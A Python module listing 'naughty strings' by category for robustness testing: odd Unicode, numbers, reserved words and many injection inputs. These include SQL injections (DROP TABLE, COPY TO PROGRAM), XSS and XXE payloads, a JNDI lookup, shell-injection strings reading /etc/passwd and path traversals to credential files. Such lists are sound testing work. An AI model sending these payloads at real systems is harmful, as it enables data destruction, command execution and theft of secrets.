# ruff: noqa: RUF001 (what is ambiguous to a reader is the point here)
"""Texts that have broken programs, by what they break."""

from collections.abc import Mapping, Sequence

_HORIZONTAL_MARKS = "\u0300\u0316\u0337\u034f\u0489"
_JOINER = "\u200d"

NAUGHTY: Mapping[str, Sequence[str]] = {
    "control characters": [f"a{chr(code)}b" for code in (*range(1, 32), *range(0x7F, 0xA0))],
    "control characters alone": [chr(code) for code in (1, 7, 8, 27, 0x7F, 0x80, 0x9F)],
    "NUL": ["\0", "a\0b", "\0\0\0", "null\0", "\\0", "\\u0000", "%00"],
    "lone surrogates": ["\ud800", "a\udfffb", "\udc00\ud800", "\ud83d", "\ude00", "\ud83dx\ude00", "\udfff\0"],
    "line ends": ["a\r\nb", "a\rb", "a\nb", "\r\n", "a\u2028b", "a\u2029b", "a\x0bb", "a\x0cb", "a\x85b", "\nX: y\r\n"],
    "spaces": [
        " a", "a ", "\ta\t", "a\u00a0b", "\u3000a", "a\u2003b", "\u1680", "\u180e", "\u205f", "a  b",
        "\ufeffa\ufeff",
    ],
    "zero width": [f"a{mark}b" for mark in "\u200b\u200c\u200d\u2060\u00ad\u034f\u061c\u115f\u3164\uffa0"],
    "zero width alone": ["\u200b", "\u200d\u200d", "\u2060", "\ufeff", "\u00ad", "\u3164"],
    "right to left": [
        "שלום", "مرحبا بالعالم", "abc שלום def", "\u202eabc", "\u202bשלום\u202c", "\u2066a\u2069", "\u2067\u2068",
        "\u061ca",
        "\u200e\u200f", "a\u202eexe.txt", "1٢٣", "(שלום)", "ﷺ", "ﷲ", "\u202d\u202d\u202d", "ـــ", "اَلْعَرَبِيَّةُ",
    ],
    "byte order marks": ["\ufeff", "\ufeffabc", "\ufffeabc", "ï»¿abc", "þÿabc", "+/v8-", "\ufeff{}", "\ufeff\ufeff"],
    "combining marks": [
        "a" + "\u0301" * 100, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢", "e\u0301", "\u00e9", "\u0301", "q\u0307\u0323",
        "q\u0323\u0307", "\u1112\u1161\u11ab", "\ud55c", "ﬁ", "\u212b", "\u00c5",
        "İ", "ı", "ß", "ẞ", "ǆ", "ΐ", "ŉ", "H" + _HORIZONTAL_MARKS * 20, "ก็็็็็็็็็็็็็็็็็็็็", "नि", "ி", "்",
    ],
    "emoji": [
        "😀", "👩‍👩‍👧‍👦", "👨🏿‍🚀", "🏳️‍🌈", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "🇩🇪🇫🇷", "🇩", "1️⃣", "❤️", "❤", "☺︎", "👍🏻👍🏼👍🏽👍🏾👍🏿", "🧑‍⚕️",
        "🏽", "\ufe0f", _JOINER.join("👩" * 20), "🫠", "🪿", "😀" * 100, "\U000e0001", "\U000e007f",
    ],
    "beyond and beside Unicode": [
        "\uffff", "\ufffe", "\ufdd0", "\ufffd", "\ufffc", "\U0010ffff", "\U0001fffe", "\ue000", "\U000f0000",
        "\U00010000",
        "𝕳𝖊𝖑𝖑𝖔", "Ⓗⓔⓛⓛⓞ", "ʇxǝʇ", "Ｆｕｌｌ", "𐌰", "𒐫", "﷽", "𠜎", "㋿", "\ud7ff", "\ue000", "ᚠᛇᚻ", "⠓⠑⠇⠇⠕", "𓀀",
    ],
    "languages": [
        "Zażółć gęślą jaźń", "Ünïcödé", "Ελληνικά", "Привет", "こんにちは", "안녕하세요", "你好", "ไทย", "हिन्दी",
        "தமிழ்", "ქართული",
        "Հայերեն", "አማርኛ", "ភាសាខ្មែរ", "ᏣᎳᎩ", "Việt Nam", "Íslenska", "Œuvre", "Straße", "İstanbul", "ﺏﺐ", "カタカナ",
        "ｶﾀｶﾅ",
    ],
    "numbers": [
        "0", "-0", "00", "1", "-1", "007", "1.0", "1e3", "1E400", "-1e-400", "0x1F", "0b1", "0o7", "1_000", "1,000",
        "1.000,00",
        "NaN", "nan", "Infinity", "-inf", "∞", "½", "²", "٣", "９", "Ⅷ", "9007199254740993", "9223372036854775808",
        "18446744073709551616", "-9223372036854775809", "1" * 400, "0.1", ".5", "5.", "+5", "1/0", "0/0", "--1", "1e",
        "2147483648", "-2147483649", "4294967296", "1.7976931348623157e309", "5e-324", "0.30000000000000004",
    ],
    "times": [
        "2026-02-30", "0000-00-00", "1970-01-01T00:00:00Z", "9999-12-31T23:59:60Z", "infinity", "-infinity", "now",
        "epoch",
        "today", "24:00", "2026-W53-7", "1e15", "-1", "Thu, 01 Jan 1970 00:00:00 GMT", "２０２６-01-01",
    ],
    "reserved words": [
        "undefined", "null", "NULL", "Null", "nil", "None", "none", "true", "false", "True", "FALSE", "undef", "void",
        "constructor", "prototype", "__proto__", "hasOwnProperty", "toString", "valueOf", "length", "__class__",
        "__init__",
        "self", "this", "default", "select", "from", "table", "user", "group", "order", "default", "system", "root",
        "admin",
        "anonymous", "guest", "unknown", "N/A", "n/a", "-", "--", "---", "?", "*", "test", "deleted", "id", "type",
        "name",
        "userId", "anonymousId", "messageId", "context", "traits", "properties", "$set", "$ref", "$id", "$.a", "_id",
        "@type",
        "CON", "PRN", "AUX", "NUL", "COM1", "LPT1", "[object Object]", "{}", "[]", "()", "function(){}", "NaN", "#REF!",
    ],
    "names of people": [
        "Scunthorpe", "Null", "True", "Mr O'Neill", "Jean-François", "Robert'); DROP TABLE Students;--", "Nguyễn",
        "X Æ A-12",
        "Dr. Dr.", "van der Berg", "李", "محمد", "O’Brien", "D'Arcy", "Søren", "Þór", "Ng", "Li", "Æ", "-", ".",
    ],
    "SQL": [
        "'", "''", '"', "`", "';--", "' OR '1'='1", "1; DROP TABLE variance_data.messages; --",
        "\\'; SELECT pg_sleep(5);--",
        "') UNION SELECT NULL, version()--", "admin'--", "%", "_", "%%", "\\", "\\\\", "$$", "$1", ":1", "?",
        "@@version",
        "E'\\x41'", "U&'\\0041'", "/* */", "/*", "*/", "--", "#", "x'; COPY t TO PROGRAM 'id';--", "::text", "{1,2}",
        '{"a":1}',
        "(1,2)", "[1,2)", "ROW(1)", "\\N", "\\.", "\\copy", "$tag$a$tag$", "'||'a", "1' AND sleep(5)#",
    ],
    "Redis": [
        "*1\r\n$8\r\nFLUSHALL\r\n", "$-1\r\n", "FLUSHALL", "+OK\r\n", "variance:{p00}", "{p00}", "a:b", "a!b", ":",
        "!", "a:b:c",
        "*", ">", "$", "-", "+", "0-0", "MAXLEN", "NOMKSTREAM", "arq:queue", "variance:connections",
    ],
    "JSON and XML": [
        "{", "}", "[", "]", '"', '\\"', "\\u0041", "\\ud800", '{"a":', "[[[[", "]]>", "<![CDATA[",
        '<?xml version="1.0"?>',
        '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', "&b;", "&amp;", "&#0;", "&#x1F600;", "\\/", "//",
        "\\b\\f",
        "a.b", "a.b.c", ".", "..", "a..b", "$", "$.", "$.a[0]", "/a/b", "~0~1", "a[0]", "a[]", "company.id", "data:,a",
    ],
    "scripts": [
        "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)", "<svg/onload=alert(1)>",
        "'\"><script>", "</script>", "<!--", "-->", '<a href="//x">', "onclick=alert(1)", "<iframe src=x>",
        "<style>*{}</style>",
        "&lt;script&gt;", "%3Cscript%3E", "＜script＞", "<b>bold</b>", '";alert(1);//', "<img src='x'>", "</title>",
        "<br>",
    ],
    "templates": [
        "{{7*7}}", "{{ config }}", "{% raw %}", "{# a #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{{a}}}", "{0}", "{}",
        "{a!r}",
        "%s", "%d", "%n", "%(a)s", "%x%x%x%x", "$a", "${jndi:ldap://x/a}", "@{a}", "[[a]]", "{{''.__class__}}",
        "%%%", "{:>99}",
    ],
    "shells": [
        "; ls", "| cat /etc/passwd", "&& true", "`id`", "$(id)", "$(touch x)", "a > b", "a < b", "a & b", "-rf",
        "--help", "-",
        "~", "~root", "$HOME", "%PATH%", "!!", "\\$", "a\\ b", "*.*", "{a,b}", "() { :;}; echo", "'$(id)'",
        '"`id`"', "= a",
        "=1+1", "+1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1", "^C", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07",
    ],
    "paths": [
        "/", "//", "/etc/passwd", "../../etc/passwd", "..\\..\\boot.ini", "C:\\Windows", "\\\\host\\share",
        "file:///etc/passwd",
        "./a", "a/../b", "%2e%2e%2f", "..%c0%af", "a/b", "a\\b", "/dev/null", "/proc/self/environ", "~/.ssh",
        "con.txt", "a:b",
        "http://127.0.0.1/", "http://[::1]/", "//x", "https://a:b@c/?d#e", "a?b=c&d", "a#b", "a;b", "a%20b", "a+b",
        "?", "#",
    ],
    "addresses": [
        "a@b.example", "A@B.EXAMPLE", "a+b@c.example", '"a b"@c.example', "a@b@c", "@b.example", "a@", "a@localhost",
        "a@[127.0.0.1]", "ä@ö.example", "a@xn--nda.example", "a@b..example", "a@.example", "a@b.example.",
        "a'b@c.example",
        "a@b.co.uk", "a@co.uk", "a@gmail.com", "mailto:a@b.example", "a@b,c@d", "a@" + "b" * 300 + ".example",
    ],
    "very long": [
        "x" * 200, "x" * 201, "x" * 1000, "x" * 10_000, "x" * 100_000, "é" * 5000, "😀" * 5000, "\\" * 5000, '"' * 5000,
        "\u0301" * 5000, " " * 1000 + "x", "x" + " " * 1000, "a/" * 3000, "\t" * 500 + "x", "<" * 3000,
        "".join(map(chr, range(33, 3000))),
    ],
    "blank": ["", " ", "   ", "\t", "\n", "\r\n", "\u00a0", "\u2003", "\x1f", "\u3000\u3000"],
}  # fmt: skip

TEXTS = tuple(dict.fromkeys(text for texts in NAUGHTY.values() for text in texts))
"""Each of them once."""
